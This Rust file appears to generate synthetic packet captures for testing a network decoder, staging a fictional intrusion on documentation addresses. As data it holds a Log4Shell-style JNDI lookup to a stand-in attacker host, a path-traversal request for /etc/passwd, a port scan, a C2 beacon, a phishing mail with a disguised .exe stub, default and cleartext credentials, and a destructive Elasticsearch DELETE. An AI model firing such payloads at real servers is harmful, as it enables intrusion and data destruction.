//! The story: a workstation, four servers, and somebody outside who should not be there.
//!
//! All addresses and names are reserved for documentation (RFC 5737, RFC 3849, RFC 2606), and
//! nothing depends on when or where it is written.

use crate::messages::{
    base64_lines, client_hello, counted, dns_answer, dns_query, gzip, server_hello, ssh_kexinit,
    ssh_key_reply, ssh_packet, tls_record,
};
use decode::build::{Captured, Conversation, Stack};
use decode::packet::Tcp;
use event::Direction::{ToClient, ToServer};
use event::Timestamp;
use std::time::Duration;

const WORKSTATION: &str = "192.0.2.10";
const RESOLVER: &str = "192.0.2.53:53";
const WEB_SERVER: &str = "192.0.2.80:80";
const ATTACKER: &str = "203.0.113.66";

/// 2025-03-03T08:00:00Z, a Monday.
const MORNING: i64 = 1_740_988_800;

/// Every frame of the story, in the order of time.
pub fn frames() -> Vec<Captured> {
    let mut frames: Vec<Captured> = [
        names(),
        page(),
        scan(),
        exploits(),
        shell(),
        beacon(),
        mail(),
        files(),
        fragments(),
        office_vlan(),
        overlay(),
        pings(),
    ]
    .concat();
    frames.sort_by_key(|frame| frame.time);
    frames
}

/// A conversation that begins so many milliseconds after the morning does.
fn talk(client: &str, port: u16, server: &str, at_ms: u64) -> Conversation {
    let client = if client.contains(':') {
        format!("[{client}]:{port}")
    } else {
        format!("{client}:{port}")
    };
    Conversation::between(&client, server).starting(moment(at_ms))
}

fn moment(at_ms: u64) -> Timestamp {
    Timestamp::new(MORNING, 0) + Duration::from_millis(at_ms)
}

/// The workstation looks up a site, by both kinds of address.
fn names() -> Vec<Captured> {
    let mut talk = talk(WORKSTATION, 50_001, RESOLVER, 0);
    let site = "www.example.com";
    talk.datagram(ToServer, &dns_query(0x1001, site, 1))
        .datagram(
            ToClient,
            &dns_answer(0x1001, site, 1, &[&[198, 51, 100, 7]]),
        )
        .datagram(ToServer, &dns_query(0x1002, site, 28))
        .datagram(ToClient, &dns_answer(0x1002, site, 28, &[]));
    talk.into_frames()
}

/// A page, compressed, and its icon, over one connection.
fn page() -> Vec<Captured> {
    let page = b"<!doctype html><title>Example</title><p>Good morning.</p>\n".repeat(40);
    let mut talk = talk(WORKSTATION, 50_002, "198.51.100.7:80", 100);
    talk.handshake()
        .client(&request(
            "GET",
            "/index.html?from=mail",
            "www.example.com",
            BROWSER,
        ))
        .server(&response(
            "200 OK",
            "text/html",
            "Content-Encoding: gzip\r\n",
            &gzip(&page),
        ))
        .client(&request("GET", "/icon.png", "www.example.com", BROWSER))
        .server(&response("200 OK", "image/png", "", ICON))
        .finish();
    talk.into_frames()
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64) Example/1.0";

/// A PNG of one pixel, up to its image data.
const ICON: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde";

fn request(method: &str, target: &str, host: &str, agent: &str) -> Vec<u8> {
    format!(
        "{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n"
    )
    .into_bytes()
}

fn response(status: &str, kind: &str, more: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "HTTP/1.1 {status}\r\nServer: example\r\nContent-Type: {kind}\r\n{more}Content-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

/// Somebody knocks at every door of the web server; two are open.
fn scan() -> Vec<Captured> {
    const PORTS: [u16; 24] = [
        21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 3306,
        3389, 5432, 5900, 6379, 8080, 27_017,
    ];
    let knock = |(place, port): (usize, &u16)| {
        let mut talk = talk(
            ATTACKER,
            61_000,
            &format!("192.0.2.80:{port}"),
            2_000 + 20 * place as u64,
        );
        talk.segment(ToServer, Tcp::SYN, b"");
        if [22, 80].contains(port) {
            talk.segment(ToClient, Tcp::SYN | Tcp::ACK, b"")
                .segment(ToServer, Tcp::RST, b"");
        } else {
            talk.segment(ToClient, Tcp::RST | Tcp::ACK, b"");
        }
        talk.into_frames()
    };
    PORTS.iter().enumerate().flat_map(knock).collect()
}

/// Then tries two old tricks on it: one fails, one does not.
fn exploits() -> Vec<Captured> {
    let mut first = talk(ATTACKER, 61_101, WEB_SERVER, 4_000);
    let agent = "${jndi:ldap://203.0.113.66:1389/a}";
    first
        .handshake()
        .client(&request("GET", "/", "shop.example", agent))
        .server(&response("403 Forbidden", "text/plain", "", b"no\n"))
        .finish();
    let mut second = talk(ATTACKER, 61_102, WEB_SERVER, 5_000);
    let target = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd";
    second
        .handshake()
        .client(&request("GET", target, "shop.example", "curl/8.0"))
        .server(&response(
            "200 OK",
            "text/plain",
            "",
            b"root:x:0:0:root:/root:/bin/sh\n",
        ))
        .finish();
    [first.into_frames(), second.into_frames()].concat()
}

/// And at its shell, with a library that scanners use.
fn shell() -> Vec<Captured> {
    let mut talk = talk(ATTACKER, 61_201, "192.0.2.80:22", 7_000);
    talk.handshake()
        .client(b"SSH-2.0-libssh_0.9.6\r\n")
        .server(b"SSH-2.0-OpenSSH_9.6\r\n")
        .client(&ssh_kexinit())
        .server(&ssh_kexinit())
        .client(&ssh_packet(30, &counted(4, &[0x11; 32])))
        .server(&ssh_key_reply())
        .client(&ssh_packet(21, &[]))
        .server(&ssh_packet(21, &[]))
        .client(&[0x77; 64])
        .reset(ToServer);
    talk.into_frames()
}

/// The workstation calls home to a name on a list.
fn beacon() -> Vec<Captured> {
    let name = "cdn.evil.example";
    let mut lookup = talk(WORKSTATION, 50_003, RESOLVER, 9_000);
    lookup
        .datagram(ToServer, &dns_query(0x2001, name, 1))
        .datagram(ToClient, &dns_answer(0x2001, name, 1, &[&[203, 0, 113, 9]]));
    let mut call = talk(WORKSTATION, 50_004, "203.0.113.9:443", 9_050);
    call.handshake()
        .client(&client_hello(name))
        .server(&server_hello())
        .server(&tls_record(23, &[0x99; 200]))
        .client(&tls_record(23, &[0x66; 300]))
        .finish();
    [lookup.into_frames(), call.into_frames()].concat()
}

/// A mail with a program that calls itself an invoice.
fn mail() -> Vec<Captured> {
    let program = [
        &b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"[..],
        &[0; 44],
        &[64, 0, 0, 0],
    ]
    .concat();
    let program = [&program[..], &b"PE\0\0\x64\x86\x01\0"[..], &[0x5a; 600]].concat();
    let body = format!(
        concat!(
            "From: Accounting <billing@example.net>\r\n",
            "To: ada@example.org\r\n",
            "Subject: Invoice 4711\r\n",
            "Date: Mon, 03 Mar 2025 08:00:11 +0000\r\n",
            "Message-ID: <4711@example.net>\r\n",
            "MIME-Version: 1.0\r\n",
            "Content-Type: multipart/mixed; boundary=\"cut\"\r\n\r\n",
            "--cut\r\nContent-Type: text/plain\r\n\r\n",
            "Please pay at http://pay.evil.example/4711 today.\r\n",
            "--cut\r\nContent-Type: application/octet-stream; name=\"invoice.pdf.exe\"\r\n",
            "Content-Transfer-Encoding: base64\r\n",
            "Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n\r\n",
            "{}--cut--\r\n.\r\n"
        ),
        base64_lines(&program)
    );
    let mut talk = talk("203.0.113.25", 44_001, "192.0.2.25:25", 11_000);
    talk.handshake()
        .server(b"220 mx.example.org ESMTP\r\n")
        .client(b"EHLO mail.example.net\r\n")
        .server(b"250-mx.example.org\r\n250 SIZE 10000000\r\n")
        .client(b"MAIL FROM:<billing@example.net>\r\n")
        .server(b"250 ok\r\n")
        .client(b"RCPT TO:<ada@example.org>\r\n")
        .server(b"250 ok\r\n")
        .client(b"DATA\r\n")
        .server(b"354 go ahead\r\n")
        .client(body.as_bytes())
        .server(b"250 queued\r\n")
        .client(b"QUIT\r\n")
        .server(b"221 bye\r\n")
        .finish();
    talk.into_frames()
}

/// A file is fetched with a password in the clear, over a channel of its own.
fn files() -> Vec<Captured> {
    let mut control = talk(WORKSTATION, 50_005, "192.0.2.21:21", 13_000);
    control
        .handshake()
        .server(b"220 files.example.org\r\n")
        .client(b"USER backup\r\n")
        .server(b"331 password?\r\n")
        .client(b"PASS opensesame\r\n")
        .server(b"230 welcome\r\n")
        .client(b"PASV\r\n")
        .server(b"227 Entering Passive Mode (192,0,2,21,195,80)\r\n")
        .client(b"RETR customers.csv\r\n")
        .server(b"150 opening\r\n")
        .wait(Duration::from_millis(500))
        .server(b"226 done\r\n")
        .client(b"QUIT\r\n")
        .server(b"221 bye\r\n")
        .finish();
    let mut data = talk(WORKSTATION, 50_006, "192.0.2.21:50000", 13_100);
    data.handshake()
        .server(&b"Ada,Lovelace,ada@example.org\r\n".repeat(100))
        .finish();
    [control.into_frames(), data.into_frames()].concat()
}

/// A log message too long for one packet, with something in its last part.
fn fragments() -> Vec<Captured> {
    let mut text = b"<13>Mar  3 08:00:15 ws app: ".to_vec();
    text.extend(b"all quiet ".repeat(180));
    text.extend(b"api_key=not-so-secret");
    let mut talk = talk(WORKSTATION, 50_007, "192.0.2.14:514", 15_000);
    talk.fragmented_datagram(ToServer, 0x4242, &text, 1_480);
    talk.into_frames()
}

/// In the office's VLAN, over IPv6, a device still has its first password.
fn office_vlan() -> Vec<Captured> {
    let mut talk = talk("2001:db8:42::10", 50_008, "[2001:db8:42::80]:8080", 16_000).on_vlan(42);
    let login = b"POST /login HTTP/1.1\r\nHost: printer.example\r\nContent-Length: 25\r\n\r\n\
        user=admin&password=admin";
    talk.handshake()
        .client(login)
        .server(&response(
            "302 Found",
            "text/plain",
            "Location: /home\r\n",
            b"",
        ))
        .finish();
    talk.into_frames()
}

/// Two machines talk in a network that is carried by another.
fn overlay() -> Vec<Captured> {
    let mut inner = talk("198.51.100.20", 40_000, "198.51.100.30:9200", 17_000);
    inner
        .handshake()
        .client(&request("DELETE", "/_all", "search.example", "curl/8.0"))
        .server(&response(
            "200 OK",
            "application/json",
            "",
            b"{\"acknowledged\":true}",
        ))
        .finish();
    let wrap = |frame: Captured| Captured {
        data: Stack::ethernet()
            .ipv4("192.0.2.101", "192.0.2.102")
            .vxlan(77)
            .payload(&frame.data)
            .bytes(),
        ..frame
    };
    inner.into_frames().into_iter().map(wrap).collect()
}

/// The attacker says goodbye with more than a ping needs.
fn pings() -> Vec<Captured> {
    let mut small = talk(WORKSTATION, 0, "192.0.2.1:0", 18_000);
    small.ping(7, 1, b"abcdefghijklmnopqrstuvwabcdefghi");
    let mut large = talk("2001:db8::66", 0, "[2001:db8::80]:0", 18_500);
    large.ping(7, 1, &b"exfil:".repeat(150));
    [small.into_frames(), large.into_frames()].concat()
}
